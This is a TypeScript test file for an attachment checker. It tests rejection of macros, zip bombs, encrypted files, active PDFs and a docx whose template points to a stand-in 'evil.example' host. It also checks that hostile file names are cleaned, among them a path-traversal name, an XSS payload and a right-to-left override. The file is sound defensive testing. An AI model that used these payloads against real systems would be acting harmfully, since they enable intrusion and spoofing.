import { strToU8, zipSync } from 'fflate'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { cpuMs } from '../../../../test/world/cpu.ts'
import { docx, paragraph } from './docx.fixture.ts'
import { allowedFiles, checkAttachment, safeName } from './index.ts'

const check = (name: string, bytes: Uint8Array | string) =>
  checkAttachment({ name, bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes })
const refused = (code: string, params: object = {}) => ({
  code: `documents.${code}`,
  params: expect.objectContaining(params) as object,
})

const word = docx([paragraph('申请表')])
const zip = (parts: Record<string, string>) =>
  zipSync(Object.fromEntries(Object.entries(parts).map(([path, text]) => [path, strToU8(text)])))
const sheet = (workbook: string, more: Record<string, string> = {}) =>
  zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': workbook, ...more })
const red = sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
const pdf = (more = '') => `%PDF-1.7\n1 0 obj <</Type/Catalog${more}>> endobj\n%%EOF`

/** A compound file with the given streams, each one sector long but said to be 4,096 bytes. */
function compound(streams: Readonly<Record<string, Buffer>>): Buffer {
  const names = Object.keys(streams)
  const file = Buffer.alloc(512 * (3 + names.length))
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file)
  file.writeUInt16LE(9, 30)
  file.writeUInt32LE(1, 48)
  file.writeUInt32LE(0, 76)
  // The table of sectors: itself, and every other sector the end of its chain.
  file.fill(0xff, 512, 1024)
  for (let n = 1; n < 2 + names.length; n++) file.writeUInt32LE(0xfffffffe, 512 + n * 4)
  for (const [n, name] of names.entries()) {
    const entry = 1024 + n * 128
    file.write(name, entry, 'utf16le')
    file.writeUInt16LE(name.length * 2 + 2, entry + 64)
    file[entry + 66] = 2
    file.writeUInt32LE(2 + n, entry + 116)
    file.writeUInt32LE(4096, entry + 120)
    streams[name]?.copy(file, 512 * (3 + n))
  }
  return file
}
const doc = (flags = 0) => {
  const fib = Buffer.alloc(32)
  fib.writeUInt16LE(flags, 10)
  return compound({ WordDocument: fib })
}
const book = (second: number) => Buffer.from([0x09, 0x08, 2, 0, 0, 6, second, 0, 0, 0])

test.each([
  ['申请表.docx', word, 'text', 'docx'],
  ['旧表.DOC', doc(), 'text', 'doc'],
  ['表格.wps', doc(), 'text', 'wps'],
  ['明细.xls', compound({ Workbook: book(0x42) }), 'sheet', 'xls'],
  ['明细.et', compound({ Workbook: book(0x42) }), 'sheet', 'et'],
  ['明细.xlsx', sheet('<workbook/>'), 'sheet', 'xlsx'],
  ['图解.pptx', zip({ 'ppt/presentation.xml': '<p/>' }), 'slides', 'pptx'],
  ['公告.ofd', zip({ 'OFD.xml': '<ofd:OFD/>' }), 'print', 'ofd'],
  ['公告.pdf', Buffer.from(pdf()), 'print', 'pdf'],
  ['数据.csv', Buffer.from('姓名,金额\n'), 'sheet', 'csv'],
  ['旧数据.csv', Buffer.from('d0d5c3fb2cbdf0b6ee0a', 'hex'), 'sheet', 'csv'],
  ['说明.txt', Buffer.from('\ufeff说明'), 'text', 'txt'],
])('takes %s', async (name, bytes, kind, extension) => {
  const checked = await check(name, bytes)
  const { mediaType } = allowedFiles.find((file) => file.extension === extension) ?? {}
  expect(checked).toEqual({
    kind,
    mediaType,
    safeName: `${name.split('.')[0]}.${extension}`,
    warnings: [],
  })
})

test.each(['jpeg', 'png', 'webp', 'gif'] as const)('takes a %s picture', async (format) => {
  const bytes = await red.clone()[format]().toBuffer()
  expect(await check(`图.${format}`, bytes)).toMatchObject({ kind: 'image', warnings: [] })
})

test('corrects an ending among files of one kind and says so', async () => {
  const png = await red.clone().png().toBuffer()
  expect(await check('图.jpg', png)).toEqual({
    mediaType: 'image/png',
    kind: 'image',
    safeName: '图.png',
    warnings: [{ field: 'name', code: 'intake.extensionCorrected', params: { extension: 'png' } }],
  })
  expect(await check('表.doc', word)).toMatchObject({ safeName: '表.docx' })
})

test.each<[string, Uint8Array | string, string, object]>([
  ['a program', 'MZ', 'fileTypeRefused', { extension: 'exe' }],
  ['no ending', 'x', 'fileTypeRefused', { extension: '?' }],
  ['an archive', zip({ a: 'b' }), 'archiveRefused', {}],
  ['a drawing that runs', '<svg/>', 'pageRefused', {}],
  ['nothing', '', 'fileEmpty', {}],
  ['a page called text', '<!DOCTYPE html><script>x</script>', 'fileTypeMismatch', { said: 'txt' }],
  ['a program called PDF', `MZ${'\0'.repeat(200)}`, 'fileTypeMismatch', { said: 'pdf' }],
  ['a PDF called picture', pdf(), 'fileTypeMismatch', { said: 'png', found: 'pdf' }],
  ['an archive called Word', zip({ a: 'b' }), 'fileTypeMismatch', { said: 'docx' }],
  ['a sheet called Word', sheet('<workbook/>'), 'fileTypeMismatch', { found: 'xlsx' }],
  ['bytes called table', Buffer.from([1, 0, 2, 0]), 'fileTypeMismatch', { said: 'csv' }],
  ['a broken zip', 'PK\u0003\u0004 and no more', 'fileBroken', {}],
  ['a password', compound({ EncryptedPackage: Buffer.alloc(9) }), 'fileEncrypted', {}],
  ['an old password', doc(0x0100), 'fileEncrypted', {}],
  ['a sheet’s password', compound({ Workbook: book(0x2f) }), 'fileEncrypted', {}],
  ['macros', docx([], { parts: { 'word/vbaProject.bin': 'x' } }), 'fileHasMacros', {}],
  [
    'old macros',
    compound({ WordDocument: Buffer.alloc(9), Macros: Buffer.alloc(9) }),
    'fileHasMacros',
    {},
  ],
  [
    'a template from elsewhere',
    docx([], {
      parts: {
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      },
    }),
    'fileReachesOut',
    {},
  ],
])('refuses %s', async (what, bytes, code, params) => {
  const endings: Record<string, string> = {
    'a program': 'exe',
    'no ending': '',
    'an archive': 'zip',
    'a drawing that runs': 'svg',
    'a page called text': 'txt',
    'a PDF called picture': 'png',
    'bytes called table': 'csv',
    'a program called PDF': 'pdf',
    'an old password': 'doc',
    'old macros': 'doc',
    'a sheet’s password': 'xls',
  }
  await expect(check(`附件.${endings[what] ?? 'docx'}`, bytes)).rejects.toMatchObject(
    refused(code, params),
  )
})

test('refuses a file above the bound of its kind', async () => {
  const large = Buffer.alloc(10 * 1024 * 1024 + 1, 0x61)
  await expect(check('a.txt', large)).rejects.toMatchObject(
    refused('fileTooLarge', { megabytes: 10 }),
  )
})

test('refuses zip bombs within two seconds: by ratio, by number, by a lie about the size', async () => {
  const started = cpuMs()
  const zeros = new Uint8Array(48 * 1024 * 1024)
  const ratio = zipSync({ 'word/document.xml': zeros }, { level: 9 })
  await expect(check('a.docx', ratio)).rejects.toMatchObject(refused('fileExpandsTooFar'))

  const many = zipSync(
    Object.fromEntries(Array.from({ length: 5001 }, (_, n) => [`word/${n}`, new Uint8Array(1)])),
    { level: 0 },
  )
  await expect(check('a.docx', many)).rejects.toMatchObject(refused('fileExpandsTooFar'))

  // The directory says ten bytes; the stream holds a megabyte.
  const lie = Buffer.from(zipSync({ 'word/document.xml': new Uint8Array(1024 * 1024) }))
  for (let at = lie.indexOf('PK\u0001\u0002'); at >= 0; at = lie.indexOf('PK\u0001\u0002', at + 1))
    lie.writeUInt32LE(10, at + 24)
  await expect(check('a.docx', lie)).rejects.toMatchObject(refused('fileExpandsTooFar'))
  expect(cpuMs() - started).toBeLessThan(6000)
})

test('[M44] tells the clerk what a file holds besides what it shows', async () => {
  const codes = async (name: string, bytes: Uint8Array | string) =>
    (await check(name, bytes)).warnings.map(({ code }) => code)
  expect(
    await codes('a.xlsx', sheet('<sheets><sheet name="x" state="veryHidden"/></sheets>')),
  ).toEqual(['intake.hiddenSheet'])
  const commented = docx(['<w:ins w:id="1"/>'], {
    parts: { 'word/comments.xml': '<c/>', 'word/embeddings/o.bin': 'x' },
  })
  expect(await codes('a.docx', commented)).toEqual([
    'intake.embeddedObject',
    'intake.comments',
    'intake.trackedChanges',
  ])
  expect(await codes('a.pdf', pdf('/Encrypt 2 0 R/OpenAction<</S/JavaScript>>'))).toEqual([
    'intake.pdfProtected',
    'intake.pdfActive',
  ])
})

test.each([
  ['附件1：申请表.pdf', '附件1：申请表.pdf'],
  ['../../etc/passwd.pdf', 'passwd.pdf'],
  ['C:\\Users\\张三\\桌面\\名单.pdf', '名单.pdf'],
  ['"><img src=x onerror=alert(1)>.pdf', 'img src=x onerror=alert(1).pdf'],
  ['cod\u202efdp.exe.pdf', 'codfdp.exe.pdf'],
  ['con.pdf', '附件.pdf'],
  ['..pdf', '附件.pdf'],
  [`${'很长'.repeat(200)}.pdf`, `${'很长'.repeat(40)}.pdf`],
])('makes %s a safe name', (name, safe) => {
  expect(safeName(name, 'pdf')).toBe(safe)
})
